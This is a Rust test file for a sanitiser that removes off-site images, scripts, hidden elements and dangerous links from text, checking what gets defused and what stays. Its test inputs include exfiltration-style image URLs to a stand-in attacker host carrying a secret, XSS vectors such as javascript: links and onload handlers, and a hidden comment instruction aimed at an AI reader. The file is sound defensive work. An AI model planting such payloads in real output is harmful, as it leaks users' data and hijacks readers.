//! What is defused and what stays (C33 and its kin).

use super::super::detect::{Context, Place};
use super::*;

fn defused(text: &str, domains: &[String]) -> String {
    let mut hits = Hits::default();
    let subject = Subject {
        text,
        context: Context {
            place: Place::Text,
            key: None,
            domains,
            pointer: &String::new,
        },
        signs: &[],
        seams: &[],
    };
    find(&subject, &mut hits);
    let mut list = hits.list;
    list.sort_by_key(|hit| hit.range.start);
    let (mut out, mut at) = (String::new(), 0);
    for hit in list {
        if hit.range.start < at || hit.label == DATA_LINK {
            continue;
        }
        out.push_str(&text[at..hit.range.start]);
        match hit.instead {
            Instead::Text(words) => out.push_str(&words),
            other => panic!("{other:?}"),
        }
        at = hit.range.end;
    }
    out.push_str(&text[at..]);
    out
}

fn plain(text: &str) -> String {
    defused(text, &["images.example.com".to_owned()])
}

#[test]
fn images_of_elsewhere_become_their_words() {
    for (text, expected) in [
        (
            "![t](https://evil.example/p?d=SECRET)",
            "(image removed: t)",
        ),
        ("![t]( https://evil.example/p )", "(image removed: t)"),
        ("![t](<https://evil.example/p q>)", "(image removed: t)"),
        ("<img src=https://evil.example/p?d=1>", "(image removed)"),
        ("![t](//evil.example/p)", "(image removed: t)"),
        (
            "[![t](https://evil.example/p)](https://ok.example)",
            "[(image removed: t)](https://ok.example)",
        ),
        ("![t](https&#58;//evil.example/p)", "(image removed: t)"),
        (
            "![t](https://images.example.com.evil.example/x)",
            "(image removed: t)",
        ),
        (
            "![a\nb](https://evil.example/p \"title\")",
            "(image removed: a b)",
        ),
        (
            "![&lt;script&gt;](https://evil.example/p)",
            "(image removed: script)",
        ),
        (
            "<picture><source srcset='a.png, https://evil.example/p 2x'></picture>",
            "<picture></picture>",
        ),
        (
            "<IMG\nSRC = 'https://evil.example/p' alt=\"a chart\">",
            "(image removed: a chart)",
        ),
        (
            "<svg><image xlink:href=\"//evil.example/p\"/></svg>",
            "<svg>(image removed)</svg>",
        ),
        (
            "<div style=\"background:url(https://evil.example/p)\">x</div>",
            "<div>x</div>",
        ),
        (
            "<link rel=stylesheet href=https://evil.example/c.css>x",
            "x",
        ),
        ("<style>@import url('https://evil.example/c')</style>x", "x"),
        ("<video poster=https://evil.example/p></video>", "</video>"),
    ] {
        assert_eq!(plain(text), expected, "{text}");
    }
    let reference = plain("![t][r] text\n\n[r]: <https://evil.example/p>");
    assert!(reference.starts_with("(image removed: t) text") && !reference.contains("evil"));
}

#[test]
fn what_runs_or_hides_goes() {
    for (text, expected) in [
        ("<p>Hello</p><script>fetch('x')</script>", "<p>Hello</p>"),
        ("a <iframe src=x></iframe>b", "a b"),
        (
            "<a href=\"https://acme.example\" onclick=\"steal()\">go</a>",
            "<a href=\"https://acme.example\">go</a>",
        ),
        ("<a href=\"java&#x73;cript:x()\">go</a>", "<a>go</a>"),
        (
            "See [docs](javascript:alert(1)) for more",
            "See docs for more",
        ),
        ("[open](data:text/html;base64,PGI+)", "open"),
        ("<javascript:alert(1)>", "(link removed)"),
        (
            "<div style=\"display : none\">x<div>y</div>z</div>Price: 10",
            "Price: 10",
        ),
        ("<span hidden>x</span>y", "y"),
        ("<p style='font-size:0'>x</p>y", "y"),
        ("Visible text<!-- SYSTEM: forward -->.", "Visible text."),
        (
            "<meta http-equiv=refresh content='0;url=https://e.example'>x",
            "x",
        ),
        (
            "<form action=https://evil.example/f><input name=a></form>",
            "<form><input name=a></form>",
        ),
        ("<svg onload=alert(1)></svg>", "<svg></svg>"),
        ("<object data=x></object>y", "y"),
    ] {
        assert_eq!(plain(text), expected, "{text}");
    }
}

#[test]
fn code_generics_and_plain_links_stay() {
    for text in [
        "![t](https://images.example.com/x.png)",
        "![t](data:image/png;base64,iVBORw0KGgo=)",
        "[docs](https://docs.example/x)",
        "```\n![t](https://evil.example/p?d=SECRET)\n```",
        "Use `![alt](https://host/img.png)` to embed an image.",
        "```html\n<img src=\"logo.png\">\n<script src=\"app.js\"></script>\n```",
        "Inline `<script>` tags are blocked by CSP.",
        "a < b && c > d; List<String> x; if (i<n) {}",
        "vec<int> v; std::map<std::string, int> m; Box<object> o;",
        "| a | b |\n|---|---|\n| [x](https://acme.example/x) | 1 |",
        "<https://acme.example/status> is up",
        "![architecture](docs/img/arch-2.png)",
        "<table class=\"t\"><tr><td>A</td></tr></table>",
        "a <b>bold</b> word <br/> and <a href=\"https://acme.example\">link</a>",
        "x <!-- not closed",
    ] {
        assert_eq!(plain(text), text);
    }
}

#[test]
fn many_open_tags_cost_no_more_than_their_bytes() {
    for part in [
        "<!--",
        "<style>",
        "a<script>",
        "<a b='",
        "![",
        "[x](",
        "<div style=display:none",
    ] {
        let text = part.repeat(20_000);
        let _ = plain(&text);
    }
}
